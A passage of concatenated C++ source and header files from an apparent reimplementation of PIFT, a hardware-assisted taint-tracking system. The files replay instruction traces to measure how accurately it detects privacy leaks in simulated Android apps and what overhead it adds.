    OverheadResult result;
    core::IdealRangeStore store;
    core::PiftTracker tracker(params, store);
    tracker.setOpObserver(
        [&result](SeqNum records, const core::TrackerStats &stats,
                  const core::TaintStore &st) {
            result.tainted_bytes.record(records,
                                        static_cast<double>(st.bytes()));
            result.cumulative_ops.record(
                records, static_cast<double>(stats.taint_ops +
                                             stats.untaint_ops));
        });
    sim::replay(trace, tracker);
    result.max_tainted_bytes = tracker.stats().max_tainted_bytes;
    result.max_ranges = tracker.stats().max_ranges;
    result.taint_ops = tracker.stats().taint_ops;
    result.untaint_ops = tracker.stats().untaint_ops;
    result.horizon = trace.records.size();
    return result;
}

} // namespace pift::analysis
