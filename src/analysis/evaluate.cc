#include "analysis/evaluate.hh"

#include <memory>

#include "baseline/full_tracker.hh"
#include "core/taint_store.hh"
#include "exec/thread_pool.hh"
#include "telemetry/telemetry.hh"

namespace pift::analysis
{

namespace
{

/** Offline-replay instruments. */
struct EvalTel
{
    telemetry::Counter &replays =
        telemetry::counter("analysis.trace_replays");
};

EvalTel &
etel()
{
    static EvalTel t;
    return t;
}

} // anonymous namespace

bool
piftDetectsLeak(const sim::Trace &trace, const core::PiftParams &params)
{
    etel().replays.inc();
    core::IdealRangeStore store;
    core::PiftTracker tracker(params, store);
    sim::replayBatched(trace, tracker);
    return tracker.anyLeak();
}

bool
piftDetectsLeak(const sim::PackedTrace &packed,
                const core::PiftParams &params)
{
    etel().replays.inc();
    core::IdealRangeStore store;
    core::PiftTracker tracker(params, store);
    sim::replayBatched(packed, tracker);
    return tracker.anyLeak();
}

bool
baselineDetectsLeak(const sim::Trace &trace)
{
    etel().replays.inc();
    baseline::FullTracker tracker;
    sim::replay(trace, tracker);
    return tracker.anyLeak();
}

unsigned
minimalNi(const sim::Trace &trace, unsigned nt, unsigned max_ni,
          unsigned jobs)
{
    unsigned resolved = jobs ? jobs : exec::defaultJobs();
    if (resolved <= 1) {
        // Serial: stop at the first detecting NI.
        for (unsigned ni = 1; ni <= max_ni; ++ni) {
            core::PiftParams params;
            params.ni = ni;
            params.nt = nt;
            if (piftDetectsLeak(trace, params))
                return ni;
        }
        return max_ni + 1;
    }
    // Parallel: speculate over every candidate, keep the smallest.
    std::unique_ptr<uint8_t[]> detects(new uint8_t[max_ni]());
    exec::parallelFor(
        max_ni,
        [&](size_t i) {
            core::PiftParams params;
            params.ni = static_cast<unsigned>(i) + 1;
            params.nt = nt;
            detects[i] = piftDetectsLeak(trace, params) ? 1 : 0;
        },
        resolved);
    for (unsigned ni = 1; ni <= max_ni; ++ni)
        if (detects[ni - 1])
            return ni;
    return max_ni + 1;
}

Accuracy
evaluateAccuracy(const std::vector<LabelledTrace> &set,
                 const core::PiftParams &params)
{
    Accuracy acc;
    for (const auto &item : set) {
        bool detected = piftDetectsLeak(item.trace, params);
        if (item.leaks && detected)
            ++acc.tp;
        else if (item.leaks && !detected)
            ++acc.fn;
        else if (!item.leaks && detected)
            ++acc.fp;
        else
            ++acc.tn;
    }
    return acc;
}

std::vector<Accuracy>
accuracyGrid(const std::vector<LabelledTrace> &set, int ni_hi,
             int nt_hi, bool untaint, unsigned jobs)
{
    telemetry::Span span("analysis:accuracy_grid", "analysis");
    const size_t cells =
        static_cast<size_t>(ni_hi) * static_cast<size_t>(nt_hi);
    const size_t apps = set.size();

    // Pack every trace once up front: the SoA image is immutable and
    // shared read-only by all (cells) replays of the same app.
    std::vector<sim::PackedTrace> packed;
    packed.reserve(apps);
    for (const auto &item : set)
        packed.emplace_back(item.trace);

    // One task per (cell, app) replay; every replay owns its tracker
    // and store, so tasks share nothing mutable. Results land in the
    // task's own slot — scheduling order cannot affect them.
    std::unique_ptr<uint8_t[]> detected(new uint8_t[cells * apps]());
    exec::parallelFor(
        cells * apps,
        [&](size_t task) {
            size_t cell = task / apps;
            size_t ai = task % apps;
            core::PiftParams params;
            params.nt = static_cast<unsigned>(cell / ni_hi) + 1;
            params.ni = static_cast<unsigned>(cell % ni_hi) + 1;
            params.untaint = untaint;
            detected[task] = piftDetectsLeak(packed[ai], params) ? 1 : 0;
        },
        jobs);

    // Deterministic reduction in fixed (cell, app) order.
    std::vector<Accuracy> grid(cells);
    for (size_t cell = 0; cell < cells; ++cell) {
        for (size_t ai = 0; ai < apps; ++ai) {
            bool hit = detected[cell * apps + ai] != 0;
            if (set[ai].leaks && hit)
                ++grid[cell].tp;
            else if (set[ai].leaks)
                ++grid[cell].fn;
            else if (hit)
                ++grid[cell].fp;
            else
                ++grid[cell].tn;
        }
    }
    return grid;
}

stats::HeatMap
accuracySweep(const std::vector<LabelledTrace> &set, int ni_hi,
              int nt_hi, bool untaint, unsigned jobs)
{
    telemetry::Span span("analysis:accuracy_sweep", "analysis");
    auto grid = accuracyGrid(set, ni_hi, nt_hi, untaint, jobs);
    stats::HeatMap map("NT", 1, nt_hi, "NI", 1, ni_hi);
    for (int nt = 1; nt <= nt_hi; ++nt)
        for (int ni = 1; ni <= ni_hi; ++ni)
            map.set(nt, ni,
                    100.0 * grid[static_cast<size_t>(nt - 1) * ni_hi +
                                 ni - 1].accuracy());
    return map;
}

WindowBound
windowBoundSearch(const std::vector<LabelledTrace> &set, int ni_hi,
                  int nt_hi, unsigned jobs)
{
    auto grid = accuracyGrid(set, ni_hi, nt_hi, true, jobs);
    // Smallest NI first, then smallest NT — the sweep-optimum order
    // the static window derivation is compared against.
    for (int ni = 1; ni <= ni_hi; ++ni) {
        for (int nt = 1; nt <= nt_hi; ++nt) {
            const Accuracy &acc =
                grid[static_cast<size_t>(nt - 1) * ni_hi + ni - 1];
            if (acc.fp == 0 && acc.fn == 0)
                return {static_cast<unsigned>(ni),
                        static_cast<unsigned>(nt)};
        }
    }
    return {};
}

namespace
{

OverheadResult
measureOverheadImpl(const sim::PackedTrace &packed,
                    const core::PiftParams &params)
{
    etel().replays.inc();
    OverheadResult result;
    core::IdealRangeStore store;
    core::PiftTracker tracker(params, store);
    tracker.setOpObserver(
        [&result](SeqNum records, const core::TrackerStats &stats,
                  const core::TaintStore &st) {
            result.tainted_bytes.record(records,
                                        static_cast<double>(st.bytes()));
            result.cumulative_ops.record(
                records, static_cast<double>(stats.taint_ops +
                                             stats.untaint_ops));
        });
    sim::replayBatched(packed, tracker);
    result.max_tainted_bytes = tracker.stats().max_tainted_bytes;
    result.max_ranges = tracker.stats().max_ranges;
    result.taint_ops = tracker.stats().taint_ops;
    result.untaint_ops = tracker.stats().untaint_ops;
    result.horizon = packed.trace().records.size();
    return result;
}

} // anonymous namespace

OverheadResult
measureOverhead(const sim::Trace &trace, const core::PiftParams &params)
{
    sim::PackedTrace packed(trace);
    return measureOverheadImpl(packed, params);
}

OverheadResult
measureOverhead(const sim::PackedTrace &packed,
                const core::PiftParams &params)
{
    return measureOverheadImpl(packed, params);
}

} // namespace pift::analysis
