/**
 * @file
 * Replay-based evaluation: detection verdicts, accuracy sweeps
 * (Figure 11), and overhead measurements (Figures 14-19).
 *
 * Captured traces are replayed offline under arbitrary (NI, NT,
 * untainting) settings — the methodology of the paper's Section 5,
 * where gem5 instruction traces plus the printed source/sink ranges
 * were fed into the PIFT analysis code.
 */

#ifndef PIFT_ANALYSIS_EVALUATE_HH
#define PIFT_ANALYSIS_EVALUATE_HH

#include <string>
#include <vector>

#include "core/pift_tracker.hh"
#include "sim/batch.hh"
#include "sim/trace.hh"
#include "stats/heatmap.hh"
#include "stats/timeseries.hh"

namespace pift::analysis
{

/**
 * Replay @p trace under @p params; true when any sink saw taint.
 * Runs the batched pipeline (sim/batch.hh), which is verdict- and
 * stats-identical to per-event replay (tests/test_batch.cc).
 */
bool piftDetectsLeak(const sim::Trace &trace,
                     const core::PiftParams &params);

/**
 * piftDetectsLeak() over a pre-packed trace — callers replaying the
 * same capture many times (grids, sweeps) pack once and reuse.
 */
bool piftDetectsLeak(const sim::PackedTrace &packed,
                     const core::PiftParams &params);

/** Replay under the full register-level DIFT baseline. */
bool baselineDetectsLeak(const sim::Trace &trace);

/**
 * Smallest NI in [1, max_ni] at which PIFT (with @p nt) detects the
 * leak, or max_ni + 1 when it never does. With @p jobs != 1 the NI
 * candidates replay concurrently (no early exit); the result is
 * identical at every job count.
 */
unsigned minimalNi(const sim::Trace &trace, unsigned nt,
                   unsigned max_ni = 30, unsigned jobs = 1);

/** Confusion-matrix counts over a labelled app set. */
struct Accuracy
{
    unsigned tp = 0, fp = 0, tn = 0, fn = 0;

    unsigned total() const { return tp + fp + tn + fn; }

    double
    accuracy() const
    {
        return total()
            ? static_cast<double>(tp + tn) / static_cast<double>(total())
            : 0.0;
    }
};

/** A captured app run with its ground-truth label. */
struct LabelledTrace
{
    std::string name;
    bool leaks = false;
    sim::Trace trace;
};

/** Evaluate one parameter point over a labelled set. */
Accuracy evaluateAccuracy(const std::vector<LabelledTrace> &set,
                          const core::PiftParams &params);

/**
 * Confusion matrices for every grid cell NI = [1, ni_hi] x
 * NT = [1, nt_hi], row-major by NT then NI (cell (nt, ni) at index
 * (nt-1)*ni_hi + ni-1). The underlying replays are distributed over
 * the exec pool at per-(cell, app) granularity — each replay owns its
 * tracker and store — and reduced in fixed order, so results are
 * identical at every job count (@p jobs; 0 = exec::defaultJobs()).
 */
std::vector<Accuracy>
accuracyGrid(const std::vector<LabelledTrace> &set, int ni_hi,
             int nt_hi, bool untaint = true, unsigned jobs = 0);

/**
 * The Figure 11 sweep: accuracy (%) over NI = [1, ni_hi] x
 * NT = [1, nt_hi]. Rows are NT, columns NI, matching the figure.
 * Parallel per (cell, app); deterministic at every @p jobs.
 */
stats::HeatMap accuracySweep(const std::vector<LabelledTrace> &set,
                             int ni_hi = 20, int nt_hi = 10,
                             bool untaint = true, unsigned jobs = 0);

/** Result of the window-bound grid search. */
struct WindowBound
{
    unsigned ni = 0, nt = 0; //!< 0 = no perfect point in the grid

    bool found() const { return ni != 0; }
};

/**
 * Smallest (NI, then NT) in the grid at which the sweep reaches 100%
 * (0 FP, 0 FN) — the Figure 11 optimum the static window derivation
 * is compared against. Parallel per (cell, app); deterministic at
 * every @p jobs.
 */
WindowBound windowBoundSearch(const std::vector<LabelledTrace> &set,
                              int ni_hi = 20, int nt_hi = 10,
                              unsigned jobs = 0);

/** Per-replay cost/footprint measurements (Figures 14-19). */
struct OverheadResult
{
    uint64_t max_tainted_bytes = 0; //!< Figure 14 cell
    uint64_t max_ranges = 0;        //!< Figure 17 cell
    uint64_t taint_ops = 0;
    uint64_t untaint_ops = 0;
    stats::TimeSeries tainted_bytes;  //!< Figure 15 series
    stats::TimeSeries cumulative_ops; //!< Figure 16 series
    SeqNum horizon = 0;               //!< trace length
};

/**
 * Replay @p trace under @p params recording the Figure 14-19
 * metrics. Sink checks still run but are ignored.
 */
OverheadResult measureOverhead(const sim::Trace &trace,
                               const core::PiftParams &params);

/** measureOverhead() over a pre-packed trace. */
OverheadResult measureOverhead(const sim::PackedTrace &packed,
                               const core::PiftParams &params);

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_EVALUATE_HH
