#include "analysis/offline.hh"

#include <cstdio>

#include "core/taint_store.hh"
#include "exec/thread_pool.hh"
#include "persist/snapshot.hh"

namespace pift::analysis
{

namespace
{

SnapshotCensusRow
censusOne(const std::string &path)
{
    SnapshotCensusRow row;
    row.path = path;
    auto snap = persist::readSnapshotFile(path);
    if (!snap.ok()) {
        row.error = snap.message();
        return row;
    }
    const persist::SnapshotData &data = snap.value();
    row.ok = true;
    row.epoch = data.epoch;
    row.records_seen = data.tracker.records_seen;
    row.controls_seen = data.tracker.controls_seen;
    row.tainted_bytes = data.storage.bytes();
    row.ranges = data.storage.rangeCount();
    row.cache_entries = data.storage.entries.size();
    for (const auto &[pid, ranges] : data.storage.spills)
        row.spilled += ranges.size();
    row.windows = data.tracker.windows.size();
    row.sinks = data.tracker.sinks.size();
    for (const auto &s : data.tracker.sinks) {
        if (s.verdict == core::SinkVerdict::Tainted)
            ++row.sinks_tainted;
        else if (s.verdict == core::SinkVerdict::MaybeTainted)
            ++row.sinks_maybe;
    }
    row.degraded = data.tracker.global_loss ||
        !data.tracker.lossy.empty() || !data.storage.saturated.empty();
    return row;
}

} // anonymous namespace

std::vector<SnapshotCensusRow>
snapshotCensus(const std::vector<std::string> &paths, unsigned jobs)
{
    std::vector<SnapshotCensusRow> rows(paths.size());
    exec::parallelFor(
        paths.size(),
        [&](size_t i) { rows[i] = censusOne(paths[i]); }, jobs);
    return rows;
}

std::string
formatSnapshotCensus(const std::vector<SnapshotCensusRow> &rows)
{
    std::string out;
    char line[300];
    std::snprintf(line, sizeof(line),
                  "%-28s %6s %9s %9s %8s %7s %7s %5s %6s %6s %6s %s\n",
                  "snapshot", "epoch", "records", "bytes", "ranges",
                  "cached", "spilled", "wins", "sinks", "taint",
                  "maybe", "state");
    out += line;
    out += std::string(118, '-') + "\n";
    for (const auto &r : rows) {
        if (!r.ok) {
            std::snprintf(line, sizeof(line), "%-28s CORRUPT: %s\n",
                          r.path.c_str(), r.error.c_str());
            out += line;
            continue;
        }
        std::snprintf(
            line, sizeof(line),
            "%-28s %6llu %9llu %9llu %8llu %7llu %7llu %5llu %6llu "
            "%6llu %6llu %s\n",
            r.path.c_str(), static_cast<unsigned long long>(r.epoch),
            static_cast<unsigned long long>(r.records_seen),
            static_cast<unsigned long long>(r.tainted_bytes),
            static_cast<unsigned long long>(r.ranges),
            static_cast<unsigned long long>(r.cache_entries),
            static_cast<unsigned long long>(r.spilled),
            static_cast<unsigned long long>(r.windows),
            static_cast<unsigned long long>(r.sinks),
            static_cast<unsigned long long>(r.sinks_tainted),
            static_cast<unsigned long long>(r.sinks_maybe),
            r.degraded ? "degraded" : "healthy");
        out += line;
    }
    return out;
}

} // namespace pift::analysis
