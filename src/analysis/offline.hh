/**
 * @file
 * Offline analysis over persisted snapshots (DESIGN.md §11).
 *
 * Durable snapshots double as analysis inputs: a fleet of devices
 * (or a sweep of runs) each leaves a `snapshot.pift` behind, and the
 * census answers "what taint state is out there" without replaying
 * anything — tainted footprint, cache pressure, verdict tallies, and
 * whether any device is running degraded. Decoding is fanned over
 * the worker pool; rows land in input order, so output is
 * byte-identical at every --jobs width.
 */

#ifndef PIFT_ANALYSIS_OFFLINE_HH
#define PIFT_ANALYSIS_OFFLINE_HH

#include <cstdint>
#include <string>
#include <vector>

namespace pift::analysis
{

/** Decoded summary of one snapshot file. */
struct SnapshotCensusRow
{
    std::string path;
    bool ok = false;         //!< decoded and checksummed
    std::string error;       //!< decode failure reason when !ok

    uint64_t epoch = 0;
    uint64_t records_seen = 0;
    uint64_t controls_seen = 0;
    uint64_t tainted_bytes = 0;
    uint64_t ranges = 0;        //!< cache + spill range entries
    uint64_t cache_entries = 0; //!< on-chip entries held
    uint64_t spilled = 0;       //!< ranges in secondary storage
    uint64_t windows = 0;       //!< window machines captured
    uint64_t sinks = 0;         //!< sink checks recorded
    uint64_t sinks_tainted = 0;
    uint64_t sinks_maybe = 0;
    bool degraded = false;      //!< any loss flag or saturation set
};

/**
 * Decode every snapshot in @p paths (in parallel; @p jobs as in
 * exec::parallelFor). Unreadable or corrupt files produce a row with
 * ok=false and the reason — a fleet census must report a corrupt
 * device, not skip it.
 */
std::vector<SnapshotCensusRow>
snapshotCensus(const std::vector<std::string> &paths, unsigned jobs);

/** Render census rows as a fixed-width table. */
std::string
formatSnapshotCensus(const std::vector<SnapshotCensusRow> &rows);

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_OFFLINE_HH
