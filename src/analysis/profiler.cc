#include "analysis/profiler.hh"

#include <algorithm>

namespace pift::analysis
{

namespace
{

/** Domain cap for the Figure 2 histograms (values above overflow). */
constexpr uint64_t distance_cap = 512;

} // anonymous namespace

DistanceProfiler::DistanceProfiler()
    : fig2a(distance_cap), fig2b(distance_cap), fig2c(distance_cap)
{}

void
DistanceProfiler::consume(const sim::Trace &trace)
{
    for (const auto &rec : trace.records) {
        SeqNum at = instructions++;
        if (rec.mem_kind == sim::MemKind::Load) {
            if (have_load) {
                fig2c.add(at - last_load);
                fig2b.add(stores_since_load);
            }
            have_load = true;
            last_load = at;
            stores_since_load = 0;
            loads.push_back(at);
        } else if (rec.mem_kind == sim::MemKind::Store) {
            if (have_load)
                fig2a.add(at - last_load);
            ++stores_since_load;
            stores.push_back(at);
        }
    }
}

stats::Histogram
DistanceProfiler::storesInWindow(unsigned ni) const
{
    stats::Histogram hist(256);
    size_t si = 0;
    for (SeqNum load : loads) {
        // First store strictly after the load.
        while (si < stores.size() && stores[si] <= load)
            ++si;
        size_t k = si;
        uint64_t count = 0;
        while (k < stores.size() && stores[k] <= load + ni) {
            ++count;
            ++k;
        }
        hist.add(count);
    }
    return hist;
}

double
DistanceProfiler::meanDistanceToStore(unsigned ni, unsigned rank) const
{
    uint64_t total = 0;
    uint64_t samples = 0;
    size_t si = 0;
    for (SeqNum load : loads) {
        while (si < stores.size() && stores[si] <= load)
            ++si;
        size_t idx = si + rank - 1;
        if (idx < stores.size() && stores[idx] <= load + ni) {
            total += stores[idx] - load;
            ++samples;
        }
    }
    return samples ? static_cast<double>(total) /
        static_cast<double>(samples) : 0.0;
}

} // namespace pift::analysis
