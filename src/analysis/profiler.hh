/**
 * @file
 * Load/store stream statistics (Figures 2, 12 and 13).
 *
 * The profiler consumes a retired-instruction trace and produces the
 * paper's three Section 2 metrics — distance from each store to the
 * most recent load, number of stores between consecutive loads,
 * distance between consecutive loads — plus the Section 5.1
 * micro-benchmarks: the distribution of store counts inside a window
 * of NI instructions after each load (Figure 12) and the mean
 * distance to the 1st/2nd/3rd store inside the window (Figure 13).
 */

#ifndef PIFT_ANALYSIS_PROFILER_HH
#define PIFT_ANALYSIS_PROFILER_HH

#include <vector>

#include "sim/trace.hh"
#include "stats/histogram.hh"

namespace pift::analysis
{

/** One-pass collector over a trace. */
class DistanceProfiler
{
  public:
    DistanceProfiler();

    /** Feed every record of @p trace (may be called repeatedly). */
    void consume(const sim::Trace &trace);

    /** Figure 2a: distance from a store to the most recent load. */
    const stats::Histogram &storeToLastLoad() const { return fig2a; }

    /** Figure 2b: number of stores between consecutive loads. */
    const stats::Histogram &storesBetweenLoads() const { return fig2b; }

    /** Figure 2c: distance between consecutive loads. */
    const stats::Histogram &loadToLoad() const { return fig2c; }

    /**
     * Figure 12: distribution of the number of stores within the NI
     * instructions following each load.
     */
    stats::Histogram storesInWindow(unsigned ni) const;

    /**
     * Figure 13: mean distance from a load to the rank-th store
     * (1-based) inside a window of @p ni instructions; 0 when no
     * window contains that many stores.
     */
    double meanDistanceToStore(unsigned ni, unsigned rank) const;

    uint64_t loadCount() const { return loads.size(); }
    uint64_t storeCount() const { return stores.size(); }
    uint64_t instructionCount() const { return instructions; }

  private:
    stats::Histogram fig2a;
    stats::Histogram fig2b;
    stats::Histogram fig2c;
    std::vector<SeqNum> loads;   //!< retired indices of loads
    std::vector<SeqNum> stores;  //!< retired indices of stores
    uint64_t instructions = 0;
    bool have_load = false;
    SeqNum last_load = 0;
    uint64_t stores_since_load = 0;
};

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_PROFILER_HH
