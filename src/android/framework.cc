#include "android/framework.hh"

#include <cstdio>
#include <cstring>

#include "support/logging.hh"

namespace pift::android
{

using core::worstVerdict;
using dalvik::Dex;
using dalvik::MethodBuilder;
using dalvik::MethodOrigin;
using dalvik::NativeCall;
using dalvik::Vm;

namespace
{

uint32_t
floatBits(float f)
{
    uint32_t bits;
    std::memcpy(&bits, &f, sizeof(bits));
    return bits;
}

} // anonymous namespace

AndroidEnv::AndroidEnv(sim::EventHub &hub, sim::Cpu &cpu,
                       runtime::Heap &heap)
    : native_(heap), module_(hub, cpu), manager_(native_, module_)
{}

void
AndroidEnv::install(dalvik::Dex &dex, runtime::JavaLib &lib)
{
    (void)lib;
    location_cls = dex.addClass({"android/location/Location", 2, 0,
                                 {}});
    intent_cls = dex.addClass({"android/content/Intent", 4, 0, {}});

    // ---- Sources --------------------------------------------------

    auto string_source = [this](const std::string &value,
                                SourceType type) {
        return [this, value, type](Vm &vm, const NativeCall &) {
            runtime::Ref s = vm.newString(value);
            manager_.registerString(s, type);
            vm.setRetval(s);
        };
    };

    get_device_id = dex.addNative(
        "TelephonyManager.getDeviceId", 0,
        string_source(profile.imei, SourceType::DeviceId));
    get_line1_number = dex.addNative(
        "TelephonyManager.getLine1Number", 0,
        string_source(profile.phone_number, SourceType::PhoneNumber));
    get_serial = dex.addNative(
        "Build.getSerial", 0,
        string_source(profile.serial, SourceType::SerialNumber));
    get_sim_id = dex.addNative(
        "TelephonyManager.getSimSerialNumber", 0,
        string_source(profile.sim_id, SourceType::SimId));

    {
        char text[64];
        std::snprintf(text, sizeof(text), "%.4f,%.4f",
                      static_cast<double>(profile.latitude),
                      static_cast<double>(profile.longitude));
        get_location_string = dex.addNative(
            "LocationManager.getLocationString", 0,
            string_source(text, SourceType::Location));
    }

    get_location = dex.addNative(
        "LocationManager.getLastKnownLocation", 0,
        [this](Vm &vm, const NativeCall &) {
            runtime::Heap &heap = vm.heap();
            runtime::Ref loc = heap.allocObject(location_cls, 2);
            vm.memory().write32(heap.fieldAddr(loc, 0),
                                floatBits(profile.latitude));
            vm.memory().write32(heap.fieldAddr(loc, 1),
                                floatBits(profile.longitude));
            manager_.registerField(loc, 0, SourceType::Location);
            manager_.registerField(loc, 1, SourceType::Location);
            vm.setRetval(loc);
        });

    // Location getters are plain bytecode field reads.
    {
        MethodBuilder b("Location.getLatitude", 4, 1);
        b.origin(MethodOrigin::SystemLib)
            .iget(0, 3, 0)
            .returnValue(0);
        location_get_latitude = dex.addMethod(b.finish());
    }
    {
        MethodBuilder b("Location.getLongitude", 4, 1);
        b.origin(MethodOrigin::SystemLib)
            .iget(0, 3, 4)
            .returnValue(0);
        location_get_longitude = dex.addMethod(b.finish());
    }

    // ---- Sinks ----------------------------------------------------

    send_text_message = dex.addNative(
        "SmsManager.sendTextMessage", 2,
        [this](Vm &vm, const NativeCall &call) {
            runtime::Ref msg = vm.memory().read32(call.arg_addr(1));
            auto verdict = manager_.checkString(msg, SinkType::Sms);
            bool block = verdict != core::SinkVerdict::Clean &&
                sink_policy == SinkPolicy::Prevent;
            calls.push_back({SinkType::Sms,
                             block ? std::string("<blocked>")
                                   : vm.readString(msg),
                             block, verdict});
            vm.setRetval(0);
        });

    http_post = dex.addNative(
        "HttpURLConnection.post", 2,
        [this](Vm &vm, const NativeCall &call) {
            runtime::Ref url = vm.memory().read32(call.arg_addr(0));
            runtime::Ref body = vm.memory().read32(call.arg_addr(1));
            auto verdict = worstVerdict(
                manager_.checkString(url, SinkType::Http),
                manager_.checkString(body, SinkType::Http));
            bool block = verdict != core::SinkVerdict::Clean &&
                sink_policy == SinkPolicy::Prevent;
            calls.push_back({SinkType::Http,
                             block ? std::string("<blocked>")
                                   : vm.readString(url) + " " +
                                       vm.readString(body),
                             block, verdict});
            vm.setRetval(0);
        });

    log_d = dex.addNative(
        "Log.d", 2,
        [this](Vm &vm, const NativeCall &call) {
            runtime::Ref msg = vm.memory().read32(call.arg_addr(1));
            auto verdict = manager_.checkString(msg, SinkType::Log);
            bool block = verdict != core::SinkVerdict::Clean &&
                sink_policy == SinkPolicy::Prevent;
            calls.push_back({SinkType::Log,
                             block ? std::string("<blocked>")
                                   : vm.readString(msg),
                             block, verdict});
            vm.setRetval(0);
        });

    // ---- Intents and callbacks -------------------------------------

    intent_init = dex.addNative(
        "Intent.<init>", 0,
        [this](Vm &vm, const NativeCall &) {
            vm.setRetval(vm.heap().allocObject(intent_cls, 4));
        });

    intent_put_extra = dex.addNative(
        "Intent.putExtra", 3,
        [](Vm &vm, const NativeCall &call) {
            runtime::Ref intent = vm.memory().read32(call.arg_addr(0));
            uint32_t slot = vm.memory().read32(call.arg_addr(1));
            runtime::Ref value = vm.memory().read32(call.arg_addr(2));
            pift_assert(slot < 4, "intent extra slot out of range");
            vm.memory().write32(vm.heap().fieldAddr(intent, slot),
                                value);
            vm.setRetval(0);
        });

    intent_get_extra = dex.addNative(
        "Intent.getExtra", 2,
        [](Vm &vm, const NativeCall &call) {
            runtime::Ref intent = vm.memory().read32(call.arg_addr(0));
            uint32_t slot = vm.memory().read32(call.arg_addr(1));
            pift_assert(slot < 4, "intent extra slot out of range");
            vm.setRetval(vm.memory().read32(
                vm.heap().fieldAddr(intent, slot)));
        });

    handler_post = dex.addNative(
        "Handler.post", 1,
        [](Vm &vm, const NativeCall &call) {
            // Synchronously dispatch the callback object's vtable
            // slot 0 (Runnable.run) through virtual dispatch.
            runtime::Ref cb = vm.memory().read32(call.arg_addr(0));
            pift_assert(cb != 0, "posting a null callback");
            dalvik::ClassId cls = vm.heap().classOf(cb);
            const auto &vtable = vm.dex().classInfo(cls).vtable;
            pift_assert(!vtable.empty(),
                        "callback class has no vtable");
            vm.execute(vtable[0], {cb});
            vm.setRetval(0);
        });
}

} // namespace pift::android
