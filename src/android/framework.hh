/**
 * @file
 * The mini Android framework the benchmark apps program against.
 *
 * Exposes the DroidBench source/sink surface as native methods app
 * bytecode can invoke:
 *
 *   sources — TelephonyManager.getDeviceId / getLine1Number /
 *             getSimSerialNumber, Build.SERIAL, LocationManager
 *             .getLastKnownLocation (a Location object with float
 *             latitude/longitude fields);
 *   sinks   — SmsManager.sendTextMessage, HTTP url/body, Log.d.
 *
 * Every source registers the fetched data with the PIFT stack before
 * returning it; every sink checks the outgoing buffer — exactly the
 * PiftManager instrumentation of Figure 3. Sink calls are also
 * recorded host-side (payload text) so tests can assert app
 * behaviour independently of taint verdicts.
 */

#ifndef PIFT_ANDROID_FRAMEWORK_HH
#define PIFT_ANDROID_FRAMEWORK_HH

#include <string>
#include <vector>

#include "android/pift_stack.hh"
#include "dalvik/method.hh"
#include "dalvik/vm.hh"
#include "runtime/library.hh"

namespace pift::android
{

/** The device's sensitive data (defaults mirror the paper's IMEI). */
struct DeviceProfile
{
    std::string imei = "356938035643809";
    std::string phone_number = "+15551234567";
    std::string serial = "R58M12ABCDE";
    std::string sim_id = "8901260123456789012";
    float latitude = 37.4220f;
    float longitude = -122.0841f;
};

/** What sinks do when live tracking flags the outgoing data. */
enum class SinkPolicy
{
    Detect,  //!< record the verdict, let the data through (default)
    Prevent  //!< block delivery of tainted payloads
};

/** One observed sink invocation (host-side ground-truth record). */
struct SinkCall
{
    SinkType type;
    std::string payload;
    bool blocked = false; //!< suppressed by the Prevent policy
    /** Live verdict at the sink (Clean when no hardware attached). */
    core::SinkVerdict verdict = core::SinkVerdict::Clean;
};

/** Framework facade: classes, native methods, and the PIFT stack. */
class AndroidEnv
{
  public:
    /**
     * @param hub event stream (control events are published here)
     * @param cpu the device CPU
     * @param heap the object heap
     */
    AndroidEnv(sim::EventHub &hub, sim::Cpu &cpu, runtime::Heap &heap);

    /**
     * Register framework classes and native methods into @p dex.
     * Must run before Vm::boot(); the env must outlive execution.
     */
    void install(dalvik::Dex &dex, runtime::JavaLib &lib);

    /// @name Framework method ids (invoked from app bytecode)
    /// @{
    dalvik::MethodId get_device_id = dalvik::no_method;
    dalvik::MethodId get_line1_number = dalvik::no_method;
    dalvik::MethodId get_serial = dalvik::no_method;
    dalvik::MethodId get_sim_id = dalvik::no_method;
    dalvik::MethodId get_location = dalvik::no_method;
    dalvik::MethodId get_location_string = dalvik::no_method;
    dalvik::MethodId location_get_latitude = dalvik::no_method;
    dalvik::MethodId location_get_longitude = dalvik::no_method;
    dalvik::MethodId send_text_message = dalvik::no_method;
    dalvik::MethodId http_post = dalvik::no_method;
    dalvik::MethodId log_d = dalvik::no_method;
    dalvik::MethodId intent_init = dalvik::no_method;
    dalvik::MethodId intent_put_extra = dalvik::no_method;
    dalvik::MethodId intent_get_extra = dalvik::no_method;
    dalvik::MethodId handler_post = dalvik::no_method;
    /// @}

    /** Location: fields 0 = latitude bits, 1 = longitude bits. */
    dalvik::ClassId location_cls = 0;
    /** Intent: four opaque extra slots. */
    dalvik::ClassId intent_cls = 0;

    DeviceProfile profile;

    /** Sink invocations observed so far (host ground truth). */
    const std::vector<SinkCall> &sinkCalls() const { return calls; }
    void clearSinkCalls() { calls.clear(); }

    /**
     * Select what sinks do on a live-tainted verdict. Prevention
     * requires a hardware module attached to the PIFT module
     * (module().attachHw), since only a synchronous check can block
     * before delivery — the paper's prevention-vs-detection trade
     * (Section 1).
     */
    void setSinkPolicy(SinkPolicy policy) { sink_policy = policy; }
    SinkPolicy sinkPolicy() const { return sink_policy; }

    PiftManager &manager() { return manager_; }
    PiftModule &module() { return module_; }

  private:
    PiftNative native_;
    PiftModule module_;
    PiftManager manager_;
    std::vector<SinkCall> calls;
    SinkPolicy sink_policy = SinkPolicy::Detect;
};

} // namespace pift::android

#endif // PIFT_ANDROID_FRAMEWORK_HH
