#include "android/pift_stack.hh"

namespace pift::android
{

sim::ControlEvent
PiftModule::makeEvent(const taint::AddrRange &range, uint32_t id) const
{
    sim::ControlEvent ev;
    ev.seq = hub_ref.recordCount();
    ev.pid = cpu_ref.pid();
    ev.start = range.start;
    ev.end = range.end;
    ev.id = id;
    return ev;
}

void
PiftModule::registerRange(const taint::AddrRange &range, uint32_t id)
{
    sim::ControlEvent ev = makeEvent(range, id);
    ev.kind = sim::ControlKind::RegisterSource;
    hub_ref.publish(ev);
}

bool
PiftModule::checkRange(const taint::AddrRange &range, uint32_t id)
{
    sim::ControlEvent ev = makeEvent(range, id);
    ev.kind = sim::ControlKind::CheckSink;
    hub_ref.publish(ev);

    if (!hw_module)
        return false;

    // Drive the memory-mapped command ports for a synchronous
    // verdict (Figure 3's Check path through the kernel module).
    hw_module->writePort(core::hw_ports::pid, cpu_ref.pid());
    hw_module->writePort(core::hw_ports::start, range.start);
    hw_module->writePort(core::hw_ports::end, range.end);
    hw_module->writePort(
